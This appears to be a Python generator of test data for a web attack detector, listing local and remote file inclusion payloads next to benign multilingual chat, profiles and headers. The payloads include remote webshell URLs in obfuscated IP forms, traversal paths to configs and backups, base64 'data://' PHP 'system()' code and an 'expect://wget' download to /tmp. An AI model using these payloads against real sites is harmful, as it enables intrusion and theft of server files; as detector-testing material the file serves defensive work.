    "C:\\phpstudy_pro\\Extensions\\Nginx1.15.11\\logs\\access.log",
    # cPanel shared hosting (Indonesia, Brazil), XAMPP, IIS (Vietnam)
    "/usr/local/apache/logs/access_log",
    "/usr/local/apache/domlogs/example.com.br",
    "C:\\xampp\\apache\\logs\\access.log",
    "/opt/lampp/logs/access_log",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240101.log",
    "..\\..\\..\\..\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240315.log",
]

# restricted-file-extensions: backups, old copies, configs and dumps (download.php?file=... style readers)
RESTRICTED_EXT: list[Entry] = [
    # editor and admin leftovers, target: a PHP/IIS download or view endpoint
    "config.php.bak",
    "../wp-config.php.bak",
    "../../web.config.old",
    "..\\..\\App_Data\\Web.config.bak",
    "../../.user.ini",
    "../../../etc/php.ini",
    "../config/database.ini",
    "../../conf/config.ini",
    "../../application/config.ini.old",
    "../.env.bak",
    "../index.php~",
    "../.index.php.swp",
    # database dumps named in each community's language (Chinese, Russian, Turkish, Indonesian,
    # Portuguese, Vietnamese, Persian)
    "../../数据库备份.sql",
    "../backup/网站备份.bak",
    "../../backup/бэкап_базы.sql",
    "../../yedek.sql",
    "../../cadangan_db.sql",
    "../../backup_banco.sql",
    "../../sao_luu.sql",
    "../../پشتیبان.sql",
    "../../backup/koneksi.php.old",
]

# ================================================================================================================
# rfi
# ================================================================================================================
# url-with-ip-address: a remote shell on a VPS addressed by IP (dotted, decimal, hex, octal, IPv6, with ports);
# target: PHP include() with allow_url_include=On
URL_IP: list[Entry] = [
    # Chinese: 大马 / 小马 / 一句话 on Aliyun and Tencent Cloud VPSes
    "http://47.94.132.18/dama.txt",
    "http://121.40.87.5:8080/xiaoma.txt",
    "http://139.155.77.21/yjh.txt",
    "http://118.24.63.9:88/1.txt",
    "https://47.94.132.18/shell.txt",
    # Russian: r57, WSO, c99
    "http://185.244.25.108/r57.txt",
    "http://45.95.168.31/wso.txt",
    "http://193.106.191.44:8000/c99.txt",
    "http://91.215.85.17/up.php.txt",
    # Brazilian, Indonesian, Turkish, Iranian (Alfa shell), Vietnamese
    "http://177.54.150.200/shell_br.txt",
    "http://189.6.44.10/r00t.txt",
    "http://36.89.54.12/indoxploit.txt",
    "http://103.147.8.22/b374k.txt",
    "http://180.250.12.33/mini.txt",
    "http://78.186.20.3/ayyildiz.txt",
    "http://88.255.64.9:81/k.txt",
    "http://5.160.218.9/alfa.txt",
    "http://2.176.40.12/alfav4.txt",
    "http://113.161.72.5/vn.txt",
    "http://14.225.210.8/shell.php.txt",
    # numeric IP forms that slip past a dotted-quad check
    "http://794657810/x.txt",
    "http://0x2f5e8412/dama.txt",
    "http://0057.0136.0204.0022/yjh.txt",
    "http://[2001:db8::a1]/r57.txt",
    "http://[::ffff:47.94.132.18]/1.txt",
    # credentials and ports
    "http://admin:admin@185.244.25.108/wso.txt",
    "http://103.97.125.4:2053/shell.txt",
    "http://47.94.132.18:8888/x.txt",
    "http://185.51.200.2/alfa-shell.txt",
    "http://180.250.12.33:8080/wp-shell.txt",
]

# url-with-trailing-question-mark: the '?' turns the appended ".php" into a query string the remote ignores
URL_QUESTION: list[Entry] = [
    # classic, every community
    "http://47.94.132.18/dama.txt?",
    "http://185.244.25.108/r57.txt??",
    "http://36.89.54.12/indoxploit.txt?",
    "http://177.54.150.200/c99.txt?&",
    "http://5.160.218.9/alfa.txt?",
    "https://pastebin.com/raw/Xk3n9Qp2?",
    "http://shell.example-vps.ru/wso.txt?",
    "http://gitee.com/hacker/tools/raw/master/yjh.txt?",
    # native text after the '?': the remote web server ignores the query string
    "http://121.40.87.5/xiaoma.txt?测试",
    "http://45.95.168.31/wso.txt?привет",
    "http://189.6.44.10/shell.txt?teste=sim",
    "http://103.147.8.22/b374k.txt?coba=1",
    "http://78.186.20.3/sh.txt?deneme",
    "http://2.176.40.12/alfa.txt?آزمایش",
    "http://113.161.72.5/vn.txt?thử",
    "http://88.255.64.9/k.txt?ş=1",
    # with the file in the path and the rest cut off
    "http://139.155.77.21/1.txt?x=",
    "https://raw.githubusercontent.com/hacker/shells/main/wso.php?",
    "http://118.24.63.9/c.txt?.php",
    "http://14.225.210.8/s.txt?/",
    "ftp://103.97.125.4/pub/shell.txt?",
    "http://93.184.216.34/r.txt??&",
    "http://[2001:db8::7]/x.txt?",
    "http://185.51.200.2/alfa.txt?",
    "http://180.250.12.33/mini.txt?",
    "http://193.106.191.44/c99.txt?",
    "http://shell.000webhostapp.com/indoxploit.txt?",
    "http://hackeado.com.br/r57.txt?",
    "http://ayyildiz.org.tr/k.txt?",
    "http://k4p1.dnslog.cn/yjh.txt?",
]

# include-parameter-with-url: the include-style parameter named in the request (page/file/template/include/path),
# as scanners and forum dorks send it; target: PHP include of a request parameter
INCLUDE_PARAM: list[Entry] = [
    kv("page=http://47.94.132.18/yjh.txt?"),
    kv("file=http://185.244.25.108/r57.txt?"),
    kv("template=http://36.89.54.12/indoxploit.txt?"),
    kv("include=http://177.54.150.200/c99.txt?"),
    kv("path=http://5.160.218.9/alfa.txt?"),
    kv("inc=http://113.161.72.5/vn.txt?"),
    kv("module=http://78.186.20.3/sh.txt?"),
    kv("lang=http://91.215.85.17/wso.txt?"),
    kv("dir=http://139.155.77.21/dama.txt?"),
    kv("content=http://103.147.8.22/b374k.txt?"),
    # localised parameter names (Portuguese, Indonesian, Turkish, Russian, Vietnamese, Persian, pinyin)
    kv("pagina=http://189.6.44.10/c99.txt?"),
    kv("arquivo=http://177.54.150.200/r57.txt?"),
    kv("conteudo=http://177.54.150.200/shell_br.txt?"),
    kv("halaman=http://36.89.54.12/mini.txt?"),
    kv("hal=http://180.250.12.33/b374k.txt?"),
    kv("sayfa=http://88.255.64.9/k.txt?"),
    kv("dosya=http://78.186.20.3/ayyildiz.txt?"),
    kv("stranica=http://45.95.168.31/wso.txt?"),
    kv("modul=http://193.106.191.44/r57.txt?"),
    kv("trang=http://14.225.210.8/vn.txt?"),
    kv("safhe=http://2.176.40.12/alfa.txt?"),
    kv("wenjian=http://118.24.63.9/xiaoma.txt?"),
    kv("mokuai=http://121.40.87.5/yjh.txt?"),
    # old mass-scanned RFI bugs (Mambo/Joomla, phpBB and friends), still in regional dork lists
    kv("mosConfig_absolute_path=http://36.89.54.12/indoxploit.txt?"),
    kv("phpbb_root_path=http://185.244.25.108/r57.txt?"),
    kv("_SERVER[DOCUMENT_ROOT]=http://177.54.150.200/c99.txt?"),
    kv("GLOBALS[config][root_dir]=http://5.160.218.9/alfa.txt?"),
    kv("abspath=http://103.147.8.22/b374k.txt?"),
    kv("base_path=http://78.186.20.3/sh.txt?"),
    kv("include_path=http://47.94.132.18/dama.txt?"),
    kv("tpl=http://139.155.77.21/xiaoma.txt?"),
]

# off-domain-reference: a URL to a host that is not the site's, for an include/template/url parameter
OFF_DOMAIN: list[Entry] = [
    # Chinese: gitee raw, Aliyun OSS bucket, dnslog.cn / ceye.io callback for a blind include
    "https://gitee.com/hacker/tools/raw/master/dama.txt",
    "http://shell-bucket.oss-cn-hangzhou.aliyuncs.com/yjh.txt",
    "http://x9k2.dnslog.cn/1.txt",
    "http://r7m3.ceye.io/shell.txt",
    "http://xn--ubt767m.xn--fiqs8s/xiaoma.txt",
    # Russian: narod.ru / ucoz free hosting, .ru and .su domains, IDN in Cyrillic (punycode)
    "http://wso-shell.narod.ru/wso.txt",
    "http://r57.ucoz.ru/r57.txt",
    "http://files.example-host.su/c99.txt",
    "http://xn--b1akmej.xn--p1ai/shell.txt",
    # Brazilian, Indonesian, Turkish, Iranian (blogfa / persiangig), Vietnamese
    "http://hackeado.com.br/c99.txt",
    "http://shell.000webhostapp.com/indoxploit.txt",
    "http://garuda-sec.or.id/mini.txt",
    "http://ayyildiz.org.tr/k.txt",
    "http://dl.persiangig.com/alfa/alfa.txt",
    "http://alfateam.blogfa.com/alfa.txt",
    "http://vn-hacker.net.vn/vn.txt",
    # paste and code hosting
    "https://pastebin.com/raw/Ab12Cd34",
    "https://raw.githubusercontent.com/hacker/shells/main/r57.txt",
    "https://gist.githubusercontent.com/hacker/0a1b2c3d/raw/wso.txt",
    "https://transfer.sh/Qw3rT/shell.txt",
    "https://cdn.jsdelivr.net/gh/hacker/shells@main/wso.txt",
    "https://hastebin.com/raw/ucivoxufo",
    "https://www.dropbox.com/s/a1b2c3d4e5/shell.txt?dl=1",
    # scheme-relative, userinfo confusion, mixed-case scheme, backslashes (browsers and lax parsers)
    "//185.244.25.108/r57.txt",
    "http://example.com@47.94.132.18/dama.txt",
    "HtTp://hackeado.com.br/c99.txt",
    "https:\\\\pastebin.com\\raw\\Ab12Cd34",
    "http:/\\/shell.000webhostapp.com/b374k.txt",
    "http://xn----ftbennaqg1ak4a5a.com/up.txt",
    "http://attacker.example.ru%2f@shell-bucket.oss-cn-hangzhou.aliyuncs.com/1.txt",
    "https://docs.google.com/uc?export=download&id=1aB2cD3eF4gH5iJ6kL7mN8oP9qR0sT1uV",
]

# protocols: ftp://, smb://, UNC \\host\share, data:, expect:, and other wrappers that fetch remote code
PROTOCOLS: list[Entry] = [
    # FTP (allow_url_include with ftp://), anonymous and with the forum's usual creds
    "ftp://47.94.132.18/dama.txt",
    "ftp://anonymous:anonymous@185.244.25.108/pub/r57.txt",
    "ftp://ftpuser:123456@36.89.54.12/indoxploit.txt",
    "ftps://5.160.218.9/alfa.txt",
    "ftp://user:pass@hackeado.com.br/c99.txt",
    # Windows SMB RFI (allow_url_include off does not stop UNC paths): UNC, forward slashes, smb://, WebDAV
    "\\\\103.97.125.4\\share\\shell.php",
    "\\\\47.94.132.18\\c$\\yjh.php",
    "//14.225.210.8/share/vn.php",
    "\\\\185.51.200.2\\public\\alfa.php",
    "smb://185.244.25.108/public/wso.php",
    "\\\\shell.example-vps.ru@SSL@443\\DavWWWRoot\\r57.php",
    "file:////177.54.150.200/share/c99.php",
    # data: with code, plain and base64, with comments/markers in the attacker's language
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
    "data://text/plain,<?php system('id');?>",
    "data:text/plain,<?php phpinfo();?>",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "data://text/plain,<?php echo '黑客测试';system('whoami');?>",
    "data:text/plain;charset=utf-8,<?php /* проверка */ system('id'); ?>",
    "data://text/plain,<?php echo 'hackeado'; passthru('uname -a'); ?>",
    "data://text/plain,<?php // coba\nsystem($_GET['c']);?>",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg==",
    "data:;base64,PD9waHAgc3lzdGVtKCRfUkVRVUVTVFsieCJdKTs/Pg==",
    # expect:// (PECL expect), target: PHP include on a host with the extension
    "expect://id",
    "expect://ls -la /var/www/html",
    "expect://wget http://45.95.168.31/bins.sh -O /tmp/b",
    "expect://whoami",
    # other remote-fetching wrappers: Java jar:, PHP ssh2.sftp, compress.zlib and php://filter over http
    "jar:http://118.24.63.9/evil.jar!/shell.jsp",
    "ssh2.sftp://root:toor@2.176.40.12:22/var/www/alfa.txt",
    "compress.zlib://http://78.186.20.3/sh.txt",
    "php://filter/resource=http://88.255.64.9/k.txt",
    "php://filter/read=string.rot13/resource=http://113.161.72.5/vn.txt",
    "ftp://[2001:db8::21]/pub/shell.txt",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", CMD_INJECTION),
    ("rce", "unix-shell-expression-evasion", SHELL_EVASION),
    ("rce", "windows-cmd-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-names-with-paths", UNIX_PATHS),
    ("rce", "reverse-shells", REVERSE_SHELLS),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloaders", DOWNLOADERS),
    ("rce", "file-write-via-shell", FILE_WRITE),
    ("rce", "restricted-file-names-in-commands", RESTRICTED_IN_CMD),
    ("lfi", "path-traversal", PATH_TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-paths", ABSOLUTE_PATHS),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPERS),
    ("lfi", "log-poisoning-targets", LOG_POISONING),
    ("lfi", "restricted-file-extensions", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", URL_IP),
    ("rfi", "url-with-trailing-question-mark", URL_QUESTION),
    ("rfi", "include-parameter-with-url", INCLUDE_PARAM),
    ("rfi", "off-domain-reference", OFF_DOMAIN),
    ("rfi", "protocols", PROTOCOLS),
]


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    kv_safe = BlindSet.kv_safe + "%?"   # a raw payload keeps its own wire encoding
    raw_places = ("query", "form", "param-name", "rs-query", "rs-param-name", "rs-raw-body")
    documents = True   # the Hikvision request is its own XML document
    unique = True
    shellshock_real: Sequence[str] = ("header:User-Agent", "header:Referer", "cookie", "header:X-Api-Version",
                                      "query", "multipart-field")
    shellshock_rs: Sequence[str] = ("rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Test-Header",
                                    "rs-cookie", "rs-query")
    param_names = {
        "rce": ["ip", "host", "cmd", "target", "domain", "ping", "addr", "q", "exec"],
        "lfi": ["file", "page", "path", "template", "lang", "doc", "filename", "download", "view"],
        "rfi": ["page", "include", "url", "file", "template", "path", "src", "module", "inc"],
    }
    xml_controls = "\n\t"
    raw_body_forbids = "&+%"

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if sub == "shellshock":
            return self.shellshock_real, self.shellshock_rs
        return self.real_cycle, self.rs_cycle

    def name(self, category: str, sub: str, k: int) -> str:
        names = self.param_names[category]
        return names[k % len(names)]

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return fixed and payload in RAW


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same languages, scripts and syntax typed innocently (Slack chat and bios in Chinese, Russian,
# Portuguese, Indonesian, Turkish, Persian, Vietnamese, Japanese and Arabic; searches, links to local sites and
# prose, profiles with local names and addresses, upload names in those scripts, ordinary headers)
CHAT = [
    # Chinese
    "大家好，我是新来的运维，负责上海机房的服务器，有问题随时找我",
    "明天下午三点开周会，议题：《二季度发布计划》和「值班表」调整",
    "部署脚本放在 /opt/app/deploy.sh 了，跑之前记得先 chmod +x",
    "测试环境的数据库密码已经换了，新密码在 1Password 里，别发在群里哦",
    "ping 不通 10.0.3.15，是不是防火墙规则又改了？",
    "这个 bug 我看了，是日志路径写错了，应该是 /var/log/app/ 而不是 /var/log/ap/",
    "周五团建去杭州西湖，报名截止到周三 😄",
    "代码里的注释能不能统一用英文？# 检查参数 这种中文注释有些同事看不懂",
    # Russian
    "Всем привет! Я Дмитрий, отвечаю за мониторинг и дежурства, пишите в любое время",
    "Коллеги, релиз переносим на четверг — нужно ещё раз прогнать тесты",
    "Кто-нибудь знает, почему cron не запускает скрипт бэкапа? В логах пусто",
    "Ссылка на документацию: https://docs.example.ru/admin «Руководство администратора»",
    "Напоминаю: пароли не пишем в чат, только через менеджер паролей",
    "Скрипт `cat access.log | grep 500 | wc -l` показывает 42 ошибки за ночь",
    # Portuguese (Brazil)
    "Bom dia pessoal! Alguém sabe se o deploy de ontem já foi para produção?",
    "O arquivo de configuração fica em config/app.yml, não precisa mexer no código",
    "Reunião de alinhamento às 14h, pauta: migração do banco de dados",
    "Valeu pela ajuda com o script de backup, funcionou certinho!",
    "Quem vai ao evento em São Paulo semana que vem? Posso dar carona",
    "O cliente reclamou que a página de login está lenta, vou abrir um chamado",
    # Indonesian
    "Selamat pagi semua, server staging sudah bisa diakses lagi ya",
    "Tolong cek halaman admin, tombol simpan tidak berfungsi di Firefox",
    "Rapat tim diundur ke jam 3 sore, terima kasih",
    "File laporan bulanan sudah saya upload ke folder bersama",
    "Ada yang tahu cara setting cron di cPanel? Mau jalankan backup tiap malam",
    "Koneksi ke database putus lagi, sepertinya karena maintenance dari penyedia hosting",
    # Turkish
    "Günaydın arkadaşlar, yeni sürüm bugün akşam yayında olacak",
    "Yedekleme betiği her gece saat 02:00'de çalışıyor, sorun olursa haber verin",
    "Toplantı odası İstanbul ofisinde 3. katta, herkes gelebilir",
    "Dosya yükleme sayfasında bir hata var, Türkçe karakterli dosya adlarında sorun çıkıyor",
    "Teşekkürler, sayfa artık düzgün açılıyor",
    # Persian
    "سلام به همه، جلسه هفتگی فردا ساعت ۱۰ صبح برگزار می‌شود",
    "لطفاً فایل گزارش را در پوشه مشترک قرار دهید",
    "سرور تست دوباره راه‌اندازی شد، مشکل حل شده است",
    "کسی می‌داند چرا صفحه ورود کند شده است؟",
    "ممنون از همه برای کمک در انتشار نسخه جدید «سامانه پشتیبانی»",
    # Vietnamese
    "Chào mọi người, mình là Minh, mới vào team backend",
    "Tối nay bảo trì máy chủ từ 22h đến 24h, mọi người lưu ý nhé",
    "Ai biết cách cấu hình nginx để chuyển hướng sang https không?",
    "File cấu hình nằm ở thư mục config, đừng sửa trực tiếp trên production",
    "Cảm ơn anh đã hỗ trợ, lỗi đăng nhập đã được sửa",
    # Japanese
    "お疲れ様です。明日のリリースは予定通り10時からです",
    "ログファイルは /var/log/app/ 以下にあります。ご確認ください",
    "「ユーザー一覧」画面の検索が遅いという問い合わせがありました",
    "テスト環境のパスワードは共有しないでください。よろしくお願いします",
    # Arabic
    "مرحبا بالجميع، الاجتماع الأسبوعي يوم الأحد الساعة العاشرة",
    "تم تحديث ملف الإعدادات، يرجى إعادة تشغيل الخدمة",
    "شكراً لكم على المساعدة في حل مشكلة تسجيل الدخول",
    # bios
    "后端工程师，喜欢 Go 和 Rust，业余时间爬山 🏔️",
    "Системный администратор, Linux и сети. Люблю автоматизацию.",
    "Desenvolvedora full-stack em Recife. Café, código e forró.",
    "Pengembang web dari Bandung. Suka kopi dan open source.",
    "İzmir'den yazılım geliştirici. Python ve veri analizi.",
    "برنامه‌نویس بک‌اند از تهران، علاقه‌مند به امنیت و لینوکس",
    "Kỹ sư DevOps ở Hà Nội, thích Kubernetes và cà phê sữa đá",
    "東京在住のSREです。趣味はランニングと読書",
    "مهندس برمجيات من القاهرة، أحب التعلم والمشاركة",
]

SEARCHES = [
    "王伟", "李娜", "张三", "上海", "运维", "Дмитрий", "Иванов", "Москва", "São Paulo", "João Silva",
    "Conceição", "Budi Santoso", "Bandung", "Yılmaz", "Şükrü", "İstanbul", "محمد", "تهران", "Nguyễn Văn An",
    "Hà Nội", "田中", "東京", "أحمد", "القاهرة", "ops 运维", "backend Москва", "suporte", "dukungan",
    "destek", "پشتیبانی", "hỗ trợ", "サポート", "الدعم", "devops", "Ng", "O'Neil", "José", "Müller",
]

URLS = [
    "https://www.baidu.com/s?wd=nginx+配置",
    "https://zhuanlan.zhihu.com/p/123456789",
    "https://gitee.com/openharmony/docs",
    "https://habr.com/ru/articles/720000/",
    "https://yandex.ru/maps/213/moscow/",
    "https://www.gov.br/pt-br/servicos",
    "https://g1.globo.com/tecnologia/",
    "https://www.tokopedia.com/help",
    "https://id.wikipedia.org/wiki/Bandung",
    "https://www.trendyol.com/yardim",
    "https://tr.wikipedia.org/wiki/İstanbul",
    "https://fa.wikipedia.org/wiki/تهران",
    "https://www.digikala.com/faq/",
    "https://vnexpress.net/so-hoa",
    "https://vi.wikipedia.org/wiki/Hà_Nội",
    "https://qiita.com/tags/nginx",
    "https://ja.wikipedia.org/wiki/東京",
    "https://ar.wikipedia.org/wiki/القاهرة",
    "https://docs.example.com/zh-cn/admin/users",
    "https://docs.example.com/pt-br/importar-usuarios",
]

PROSE = [
    "上海办公室 技术部",
    "《员工手册》2024 版",
    "「值班表」三月",
    "Отдел эксплуатации, Москва",
    "«Руководство администратора», раздел 3",
    "Equipe de suporte — São Paulo",
    "Relatório mensal (março)",
    "Tim dukungan Jakarta",
    "Laporan bulanan Maret 2024",
    "Destek ekibi, İstanbul ofisi",
    "Şubat ayı raporu",
    "تیم پشتیبانی تهران",
    "«گزارش ماهانه» فروردین",
    "Nhóm hỗ trợ Hà Nội",
    "Báo cáo tháng 3",
    "東京オフィス 開発部",
    "「ユーザー管理」マニュアル",
    "فريق الدعم في القاهرة",
    "التقرير الشهري لشهر مارس",
    "运维组 / 网络组",
    "Смена: ночь (22:00–06:00)",
    "Contato: (11) 91234-5678",
    "Jl. Asia Afrika No. 8, Bandung",
    "Atatürk Cad. No:12/3 Kadıköy",
    "خیابان ولیعصر، پلاک ۱۲",
    "Số 1 Tràng Tiền, Hoàn Kiếm",
    "東京都千代田区丸の内1-1",
    "شارع التحرير، القاهرة",
    "team: 后端 & 前端",
    "QA — проверка релиза 2.4",
]

PROFILES = [
    ("王伟", "上海市浦东新区世纪大道100号"),
    ("李娜", "北京市海淀区中关村大街1号"),
    ("陈静", "广东省深圳市南山区科技园"),
    ("Дмитрий Иванов", "ул. Тверская, д. 7, Москва"),
    ("Анна Смирнова", "Невский пр., 28, Санкт-Петербург"),
    ("João da Silva", "Av. Paulista, 1000 - São Paulo, SP"),
    ("Maria Conceição", "Rua da Aurora, 45 - Recife, PE"),
    ("Budi Santoso", "Jl. Sudirman No. 5, Jakarta Pusat"),
    ("Siti Rahayu", "Jl. Malioboro 21, Yogyakarta"),
    ("Mehmet Yılmaz", "Bağdat Cad. No:45, Kadıköy/İstanbul"),
    ("Ayşe Şahin", "Kızılay Mah. 12, Ankara"),
    ("محمد رضایی", "تهران، خیابان انقلاب، پلاک ۴۵"),
    ("زهرا احمدی", "اصفهان، خیابان چهارباغ"),
    ("Nguyễn Văn An", "Số 12 Lê Lợi, Quận 1, TP. Hồ Chí Minh"),
    ("Trần Thị Mai", "Số 5 Hàng Bài, Hoàn Kiếm, Hà Nội"),
    ("田中 太郎", "東京都渋谷区神南1-2-3"),
    ("佐藤 花子", "大阪府大阪市北区梅田2-4"),
    ("أحمد حسن", "شارع الجمهورية، القاهرة"),
    ("فاطمة علي", "حي النخيل، الرياض"),
    ("Đặng Quốc Bảo", "Đà Nẵng, Việt Nam"),
]

UPLOAD_NAMES = [
    "员工名单.csv", "二季度报告.xlsx", "会议纪要_0315.docx", "照片 合影.jpg",
    "список_сотрудников.csv", "отчёт_март.pdf", "фото отдела.png",
    "relatório_março.pdf", "lista_usuários.csv", "laporan_bulanan.xlsx", "daftar_karyawan.csv",
    "çalışan_listesi.csv", "şubat_raporu.pdf", "گزارش_ماهانه.pdf", "فهرست_کارکنان.xlsx",
    "danh_sách_nhân_viên.csv", "báo_cáo_tháng_3.pdf", "社員一覧.csv", "議事録.docx",
    "قائمة_الموظفين.csv", "users-import-2024-03.csv",
]

BENIGN_HEADERS = [
    ("Accept-Language", "zh-CN,zh;q=0.9,en;q=0.8"),
    ("Accept-Language", "ru-RU,ru;q=0.9,en-US;q=0.8"),
    ("Accept-Language", "pt-BR,pt;q=0.9,en;q=0.8"),
    ("Accept-Language", "id-ID,id;q=0.9,en;q=0.8"),
    ("Accept-Language", "tr-TR,tr;q=0.9,en;q=0.8"),
    ("Accept-Language", "fa-IR,fa;q=0.9,en;q=0.8"),
    ("Accept-Language", "vi-VN,vi;q=0.9,en;q=0.8"),
    ("Accept-Language", "ja-JP,ja;q=0.9,en;q=0.8"),
    ("Accept-Language", "ar-EG,ar;q=0.9,en;q=0.8"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/122.0.0.0 Safari/537.36 Edg/122.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (Linux; Android 13; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/121.0.0.0 Mobile Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Mobile/15E148 MicroMessenger/8.0.47(0x18002f2c) NetType/WIFI Language/zh_CN"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/120.0.0.0 YaBrowser/24.1.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Linux; Android 12; Redmi Note 11) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/120.0.0.0 Mobile Safari/537.36 XiaoMi/MiuiBrowser/14.6.0"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "coc_coc_browser/118.0.0 Chrome/112.0.0.0 Safari/537.36"),
    ("Referer", "https://www.baidu.com/s?wd=%E5%91%98%E5%B7%A5%E7%9B%AE%E5%BD%95"),
    ("Referer", "https://yandex.ru/search/?text=%D1%81%D0%BF%D0%B8%D1%81%D0%BE%D0%BA"),
    ("Referer", "https://www.google.com.br/search?q=diret%C3%B3rio+de+funcion%C3%A1rios"),
    ("Referer", "https://app.example.com/admin/users?lang=vi"),
    ("Cookie", "session=abc123; lang=tr; tz=Europe%2FIstanbul"),
    ("Cookie", "session=abc123; lang=fa; tz=Asia%2FTehran"),
    ("Cookie", "session=abc123; locale=zh_CN; tz=Asia%2FShanghai"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
